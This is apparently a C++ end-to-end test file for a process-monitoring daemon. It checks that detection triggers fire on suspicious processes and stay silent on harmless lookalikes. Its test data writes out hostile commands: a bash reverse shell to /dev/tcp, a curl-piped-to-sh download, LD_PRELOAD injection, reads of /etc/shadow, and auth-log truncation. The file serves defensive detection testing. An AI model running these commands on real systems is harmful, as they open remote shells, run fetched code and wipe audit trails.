// The default set with the real servers: each trigger fires on a real process of the kind it is
// for, and stays silent on one that only looks like it.
//
// One has no process that a test could start: image-changed-in-place is about an executable that
// changes under a living pid without an exec, or a start time in the future. Its SQL is tried on
// made events by --check_config.

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <iterator>
#include <map>
#include <set>

#include "absl/time/clock.h"
#include "fmt/format.h"
#include "libs/base/unique_fd.h"
#include "libs/linux/procfs/test_child.h"
#include "tests/e2e/triggers_fixture.h"

namespace daemoneye {
namespace {

using procfs::TestChild;
using ::testing::IsEmpty;
using testing_support::ChildProcess;
using testing_support::kPatience;

using Command = std::vector<std::string>;

// What runs in a temporary directory here does so because the tests are there.
constexpr char kWithoutTmp[] = "overrides: {execution-from-tmp: {enabled: false}}\n";

class DefaultTriggersTest : public testing_support::TriggersFixture {
 protected:
  // Starts each command as a copy of the shell under the name that it begins with, all of them
  // children of one shell, since for some it counts who did. They stop once they run.
  std::map<std::string, uint32_t> StartAll(const std::string& folder,
                                           const std::map<std::string, Command>& commands) {
    std::filesystem::create_directory(directory_.File(folder));
    std::string script;
    for (const auto& [trigger, command] : commands) {
      const std::string path = directory_.File(folder + "/" + command[0]);
      std::filesystem::copy_file("/bin/dash", path);
      script += fmt::format("'{}' '{}'", path,
                            directory_.Write(fmt::format("{}/{}.sh", folder, trigger),
                                             fmt::format("echo {} $$; kill -STOP $$\n", trigger)));
      for (size_t i = 1; i < command.size(); ++i) script += fmt::format(" '{}'", command[i]);
      script += " & ";
    }
    ChildProcess& shell = *shells_.emplace_back(std::make_unique<ChildProcess>(
        testing_support::ChildSpec{.argv = {"/bin/sh", "-c", script + "wait"}}));
    std::map<std::string, uint32_t> pids;
    for (size_t i = 0; i < commands.size(); ++i) {
      const auto line = shell.AwaitLine({" "});
      EXPECT_TRUE(line.has_value()) << shell.output();
      if (!line.has_value()) break;
      const size_t space = line->find(' ');
      const auto pid = static_cast<uint32_t>(std::stoi(line->substr(space + 1)));
      pids[line->substr(0, space)] = pid;
      stopped_.push_back(static_cast<pid_t>(pid));
    }
    return pids;
  }

  void TearDown() override {
    for (const pid_t pid : stopped_) kill(pid, SIGKILL);
  }

  void ExpectAlertsOfAll(const std::map<std::string, uint32_t>& pids) {
    const std::set<std::pair<std::string, uint32_t>> wanted(pids.begin(), pids.end());
    std::set<uint32_t> all;
    for (const auto& [trigger, pid] : wanted) all.insert(pid);
    std::set<std::pair<std::string, uint32_t>> missing = wanted;
    const absl::Time end = absl::Now() + kPatience;
    Until([&] {
      missing = wanted;
      for (const v1::Alert& alert : AlertsOf(all)) missing.erase({alert.trigger_id(), alert.pid()});
      return missing.empty() || absl::Now() > end;
    });
    for (const auto& [trigger, pid] : missing) ADD_FAILURE() << trigger << " did not fire";
  }

  std::vector<std::string> TriggersThatFiredFor(uint32_t pid) const {
    std::vector<std::string> ids;
    for (const v1::Alert& alert : AlertsOf({pid})) ids.push_back(alert.trigger_id());
    return ids;
  }

  std::vector<std::unique_ptr<ChildProcess>> shells_;
  std::vector<pid_t> stopped_;
};

TEST_F(DefaultTriggersTest, FiresOnCommandsOfItsKindAndNotOnTheirHarmlessCousins) {
  StartServers(kWithoutTmp);
  const auto harmless =
      StartAll("harmless", {{"account-creation", {"useradd", "--system", "x"}},
                            {"container-escape", {"nsenter", "-t", "1234", "-n"}},
                            {"credential-file-access", {"cat", "/srv/u/.ssh/id_ed25519.pub"}},
                            {"cryptominer", {"grep", "stratum+tcp://", "access.log"}},
                            {"kernel-module-load", {"modprobe", "--dry-run", "x"}},
                            {"log-clearing", {"rm", "/srv/u/notes.log"}},
                            {"persistence-edit", {"crontab", "-l"}},
                            {"piped-to-shell", {"bash", "curl -s http://192.0.2.1/x | less"}},
                            {"preload-injection", {"env", "LD_LIBRARY_PATH=/opt/lib", "app"}},
                            {"ptrace-attach", {"gdb", "./x"}},
                            {"reverse-shell", {"nc", "-l", "8080"}},
                            {"scanning-tools", {"man", "nmap"}},
                            {"setuid-shell", {"zsh"}}});
  const auto wrong =
      StartAll("wrong", {{"account-creation", {"useradd", "-m", "eve"}},
                         {"container-escape", {"nsenter", "-t", "1"}},
                         {"credential-file-access", {"tail", "/etc/shadow"}},
                         {"cryptominer", {"xmrig"}},
                         {"kernel-module-load", {"insmod", "./x.ko"}},
                         {"log-clearing", {"truncate", "-s", "0", "/var/log/auth.log"}},
                         {"persistence-edit", {"crontab", "-"}},
                         {"piped-to-shell", {"zsh", "curl -fsSL http://192.0.2.1/x | sh"}},
                         {"preload-injection", {"env", "LD_PRELOAD=/srv/u/x.so"}},
                         {"ptrace-attach", {"gdb", "-p", "4242"}},
                         {"reverse-shell", {"bash", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"}},
                         {"scanning-tools", {"nmap", "192.0.2.0/24"}}});
  ExpectAlertsOfAll(wrong);
  AwaitTwoScans();
  for (const auto& [trigger, pid] : harmless) {
    EXPECT_THAT(TriggersThatFiredFor(pid), IsEmpty()) << "the cousin of " << trigger;
  }
}

TEST_F(DefaultTriggersTest, AServersWorkerIsNoShellAndAnInterpreterIsNoProgramInTmp) {
  StartServers();
  std::filesystem::copy_file("/bin/dash", directory_.File("nginx"));
  const std::vector<Command> commands = {
      {directory_.File("nginx"), "-c",
       fmt::format("'{}' -c 'echo worker $$; kill -STOP $$'; :", directory_.File("nginx"))},
      {"/bin/sh", directory_.Write("script", "echo script $$; kill -STOP $$")}};
  std::vector<uint32_t> pids;
  for (const Command& command : commands) {
    shells_.push_back(std::make_unique<ChildProcess>(testing_support::ChildSpec{.argv = command}));
    const auto line = shells_.back()->AwaitLine({" "});
    ASSERT_TRUE(line.has_value());
    pids.push_back(static_cast<uint32_t>(std::stoi(line->substr(line->find(' ') + 1))));
    stopped_.push_back(static_cast<pid_t>(pids.back()));
  }
  Await("execution-from-tmp", pids[0]);
  AwaitTwoScans();
  EXPECT_THAT(TriggersThatFiredFor(pids[0]), testing::ElementsAre("execution-from-tmp"));
  EXPECT_THAT(TriggersThatFiredFor(pids[1]), IsEmpty());
}

TEST_F(DefaultTriggersTest, AnUpdatedFileIsNotADeletedOne) {
  StartServers(kWithoutTmp);
  const std::string path = directory_.File("updated");
  TestChild::CopyProgram(path);
  const TestChild child(path);
  Until([&] {
    return !Query(fmt::format("SELECT 1 FROM processes WHERE pid = {}", child.pid())).empty();
  });
  TestChild::CopyProgram(path + ".new");
  std::filesystem::rename(path + ".new", path);
  AwaitTwoScans();
  EXPECT_THAT(TriggersThatFiredFor(static_cast<uint32_t>(child.pid())), IsEmpty());
}

TEST_F(DefaultTriggersTest, AnImageInMemoryAndOneInSharedMemoryFire) {
  StartServers();
  const base::UniqueFd image(::memfd_create("payload", MFD_CLOEXEC));
  std::ifstream program(TestChild::ProgramPath(), std::ios::binary);
  const std::string bytes((std::istreambuf_iterator<char>(program)), {});
  ASSERT_EQ(::write(image.get(), bytes.data(), bytes.size()), static_cast<ssize_t>(bytes.size()));
  const TestChild in_memory("payload", {}, image.get());
  const std::string path = fmt::format("/dev/shm/daemoneye-{}", ::getpid());
  TestChild::CopyProgram(path);
  const TestChild shared(path);
  std::filesystem::remove(path);
  const v1::Alert alert = Await("memfd-execution", static_cast<uint32_t>(in_memory.pid()));
  EXPECT_EQ(alert.executable_path(), "/memfd:payload");
  ExpectSoonAfterItsEvent(alert);
  Await("execution-from-tmp", static_cast<uint32_t>(shared.pid()));
  AwaitTwoScans();
  // Once, and an image in memory has no file that could be missing.
  EXPECT_THAT(TriggersThatFiredFor(static_cast<uint32_t>(in_memory.pid())),
              testing::ElementsAre("memfd-execution"));
}

TEST_F(DefaultTriggersTest, ASetuidCopyAndAShellWithAnothersRightsFire) {
  if (geteuid() != 0) GTEST_SKIP() << "needs root, to become somebody else";
  StartServers(kWithoutTmp);
  ASSERT_EQ(chmod(directory_.path().c_str(), 0755), 0);
  std::map<std::string, uint32_t> pids;
  for (const char* name : {"bash", "tool"}) {
    const std::string path = directory_.File(name);
    std::filesystem::copy_file("/bin/dash", path);
    ASSERT_EQ(chmod(path.c_str(), 04755), 0);
    shells_.push_back(std::make_unique<ChildProcess>(testing_support::ChildSpec{
        .argv = {path, "-p", "-c", "echo started $$; kill -STOP $$"}, .user = 65534}));
    const auto line = shells_.back()->AwaitLine({"started"});
    ASSERT_TRUE(line.has_value());
    pids[name] = static_cast<uint32_t>(shells_.back()->pid());
  }
  const v1::Alert alert = Await("setuid-shell", pids["bash"]);
  EXPECT_EQ(alert.severity(), v1::SEVERITY_HIGH);
  Await("setuid-shell", pids["tool"]);
  EXPECT_EQ(CountAfterTwoScans("setuid-shell", pids["tool"]), 1u);
}

TEST_F(DefaultTriggersTest, AnotherFileAtAnOldPathIsAHashMismatchAndTheSameFileIsNone) {
  StartServers(kWithoutTmp, {"--compute_hashes"});
  const std::string path = directory_.File("app");
  TestChild::CopyProgram(path);
  const TestChild first(path);
  Until([&] {
    return !Query(
                fmt::format("SELECT 1 FROM process_events WHERE pid = {} AND executable_hash > ''",
                            first.pid()))
                .empty();
  });
  const TestChild again(path);
  TestChild::CopyProgram(path + ".new");
  std::ofstream(path + ".new", std::ios::binary | std::ios::app) << "changed";
  std::filesystem::rename(path + ".new", path);
  const TestChild changed(path);
  const v1::Alert alert = Await("hash-mismatch", static_cast<uint32_t>(changed.pid()));
  EXPECT_EQ(alert.executable_path(), path);
  ExpectSoonAfterItsEvent(alert);
  EXPECT_EQ(CountAfterTwoScans("hash-mismatch", static_cast<uint32_t>(changed.pid())), 1u);
  EXPECT_THAT(AlertsOf({static_cast<uint32_t>(first.pid()), static_cast<uint32_t>(again.pid())}),
              IsEmpty());
}

TEST_F(DefaultTriggersTest, ACoreKeptBusyForMinutesFiresAndThatOfASystemsProgramDoesNot) {
  if (geteuid() != 0) GTEST_SKIP() << "needs root, to have a core whatever else runs";
  StartServers(kWithoutTmp);
  const std::string path = directory_.File("miner");
  std::filesystem::copy_file("/bin/dash", path);
  const Command loop = {"-c", "while :; do :; done"};
  Command own = {"/usr/bin/nice", "-n", "-20", path}, systems = {"/bin/sh"};
  own.insert(own.end(), loop.begin(), loop.end());
  systems.insert(systems.end(), loop.begin(), loop.end());
  const ChildProcess busy({.argv = own});
  const ChildProcess beside({.argv = systems});
  v1::Alert alert;
  Until(
      [&] {
        const auto alerts = AlertsOfTrigger("sustained-cpu");
        if (!alerts.empty()) alert = alerts[0];
        return !alerts.empty();
      },
      absl::Minutes(3));
  EXPECT_EQ(alert.pid(), static_cast<uint32_t>(busy.pid()));
  EXPECT_GE(alert.evidence_size(), 5);
  EXPECT_THAT(TriggersThatFiredFor(static_cast<uint32_t>(beside.pid())), IsEmpty());
}

}  // namespace
}  // namespace daemoneye
